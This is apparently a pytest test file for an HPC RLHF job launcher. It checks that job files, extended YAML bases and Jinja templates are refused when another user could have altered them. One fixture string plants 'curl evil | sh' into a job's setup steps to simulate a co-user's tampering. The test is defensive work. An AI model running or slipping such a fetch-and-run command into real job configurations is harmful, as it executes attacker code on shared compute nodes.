"""What a job file consists of besides itself is named, and refused where another user could have changed it."""

from __future__ import annotations

import io
import os
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from hpc_rlhf.cli import main
from hpc_rlhf.errors import HpcRlhfError
from hpc_rlhf.launch import inputs
from hpc_rlhf.launch.plan import make_plan
from hpc_rlhf.launch.render import Templates
from hpc_rlhf.run.layout import RunDir
from hpc_rlhf.spec.load import load_spec
from tests.co_user import NOBODY, as_co_user, as_root

BASE = "run_dir: runs/x\ndata: {sources: [{demo: 100}]}\nmodels: {actor: facebook/opt-125m}\nstages: {sft: {}}\n"
THEIRS = "slurm: {setup: [curl evil | sh]}\n"


@pytest.fixture
def folder(public: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that others can enter, with a job file that extends another."""
    folder = public / "jobs"
    folder.mkdir()
    (folder / "base.yaml").write_text(BASE)
    (folder / "job.yaml").write_text("extends: base.yaml\nname: x\n")
    monkeypatch.chdir(folder)
    return folder


def template(folder: Path) -> None:
    (folder / "templates").mkdir()
    (folder / "templates/_options.j2").write_text("{{ slurm.partition }}")


def extended(folder: Path) -> None:
    (folder / "base.yaml").rename(folder / "old")
    (folder / "base.yaml").write_text(BASE + THEIRS)


def job_file(folder: Path) -> None:
    (folder / "job.yaml").rename(folder / "old")
    (folder / "job.yaml").write_text(f"name: x\n{BASE}{THEIRS}")


@as_root
@pytest.mark.parametrize("attack", [template, extended, job_file])
@pytest.mark.parametrize("verb", ["submit", "run", "render --out out", "doctor"])
def test_a_co_user_adds_nothing_to_what_jobs_run(
    attack: Callable[[Path], object], verb: str, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert not as_co_user(lambda: attack(folder))  # the folder is closed to them
    folder.chmod(0o777)
    assert as_co_user(lambda: attack(folder))
    assert main([*verb.split(), "job.yaml"]) == 2
    assert re.search("it is world-writable|it belongs to another user", capsys.readouterr().err)
    folder.chmod(0o1777)  # what they left is still theirs
    assert main([*verb.split(), "job.yaml"]) == 2
    assert "it belongs to another user (uid 65534)" in capsys.readouterr().err
    assert not (folder / "runs").exists()
    assert not (folder / "out").exists()


@as_root
def test_plan_renders_no_templates_of_a_co_user(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It may show their job file, because it runs nothing of it."""
    os.chown(folder, NOBODY, NOBODY)
    os.chown(folder / "job.yaml", NOBODY, NOBODY)
    assert main(["plan", "job.yaml"]) == 0
    assert as_co_user(lambda: template(folder))
    assert main(["plan", "job.yaml"]) == 2
    assert "it belongs to another user" in capsys.readouterr().err


@pytest.mark.parametrize("verb", [["plan"], ["render", "--out", "out"], ["submit", "--dry-run"]])
def test_what_is_used_besides_the_job_file_is_named(
    verb: list[str], folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([*verb, "job.yaml"]) == 0
    captured = capsys.readouterr()
    assert "base.yaml: extended by the job file" in captured.err
    assert "template" not in captured.err
    (folder / "templates").mkdir()
    (folder / "templates/hostfile.j2").write_text("@NODE@ slots=1\n")
    assert main([*verb, "job.yaml"]) == 0
    assert "templates/hostfile.j2: replaces a built-in template" in capsys.readouterr().err


def test_the_users_own_files_are_accepted(folder: Path) -> None:
    template(folder)
    inputs.check(folder / "job.yaml")
    (folder / "link.yaml").symlink_to(folder / "job.yaml")
    inputs.check(folder / "link.yaml")


@as_root
@pytest.mark.parametrize("mode", [0o711, 0o700, 0o755])
def test_templates_that_cannot_be_listed_are_refused(mode: int, folder: Path) -> None:
    """Jinja would open them by their names."""
    template(folder)
    for path in (folder / "templates", folder / "templates/_options.j2"):
        os.chown(path, NOBODY, NOBODY)
    folder.chmod(0o1777)
    (folder / "templates").chmod(mode)
    assert not as_co_user(lambda: inputs.check(folder / "job.yaml"), user=4242)
    assert not as_co_user(lambda: Templates(folder), user=4242)
    os.chown(folder / "templates", 4242, -1)
    (folder / "templates").chmod(0o311)  # the user's own
    assert not as_co_user(lambda: inputs.check(folder / "job.yaml"), user=4242)


def test_an_empty_folder_that_others_can_fill_is_refused(folder: Path) -> None:
    (folder / "templates").mkdir()
    inputs.check(folder / "job.yaml")
    (folder / "templates").chmod(0o777)
    with pytest.raises(HpcRlhfError, match="it is world-writable"):
        inputs.check(folder / "job.yaml")


def test_what_is_rendered_is_what_was_checked(folder: Path) -> None:
    (folder / "templates/part").mkdir(parents=True)
    (folder / "templates/hostfile.j2").write_text("{% include 'part/line.j2' %}")
    (folder / "templates/part/line.j2").write_text("@NODE@ slots=1\n")
    spec = load_spec(folder / "job.yaml")
    plan = make_plan(spec)
    templates = Templates(folder)
    (folder / "templates/part/line.j2").write_text("theirs")
    assert templates.hostfile(plan, plan.jobs[0]) == "@NODE@ slots=1\n"


def test_a_spec_from_standard_input_has_no_templates(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "templates").mkdir()
    (folder / "templates/hostfile.j2").write_text("theirs")
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(f"name: x\n{BASE}".encode())))
    assert main(["render", "--out", "out", "-"]) == 0
    assert "templates" not in capsys.readouterr().err
    assert "theirs" not in (folder / "out/sft.hostfile.in").read_text()


def test_a_job_file_may_be_a_pipe(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """As in ``hpc-rlhf submit <(make-spec)``; what it extends is found, too."""
    reader, writer = os.pipe()
    os.write(writer, f"extends: {folder / 'base.yaml'}\nname: x\n".encode())
    os.close(writer)
    (folder / "base.yaml").chmod(0o666)
    assert main(["submit", f"/dev/fd/{reader}"]) == 2
    assert f"{folder / 'base.yaml'}: it is world-writable" in capsys.readouterr().err
    os.close(reader)


@as_root
def test_a_shared_run_in_a_folder_of_the_group_keeps_its_templates(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = RunDir(folder / "run")
    run.scripts.mkdir(parents=True, mode=0o750)
    template(run.scripts)
    os.chown(folder, 0, NOBODY)
    folder.chmod(0o2770)
    monkeypatch.setattr(os, "getgroups", lambda: [NOBODY])
    run.job_yaml.write_text("name: x\n")
    with pytest.raises(HpcRlhfError, match="writable by the group"):
        inputs.templates(run.scripts)
    run.job_yaml.write_text("name: x\nshare: group\n")
    assert list(inputs.templates(run.scripts)) == ["_options.j2"]
